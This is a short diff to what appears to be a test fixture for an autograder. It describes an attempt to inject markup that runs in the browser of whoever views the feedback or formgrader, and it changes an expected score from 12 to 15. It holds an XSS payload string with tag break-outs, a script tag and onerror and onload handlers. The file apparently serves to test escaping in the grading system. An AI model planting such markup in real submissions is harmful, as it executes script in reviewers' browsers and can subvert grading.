@@ -1,7 +1,7 @@
 # Attempt: markup that runs in the browser of whoever opens the feedback or formgrader
 # Kind: script
 # Base: solution
-# Score: exactly 12
+# Score: exactly 15
 # Fails: loss update train
 # Canary: text
 MARKUP = "</pre></td></table>--><script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=x>"
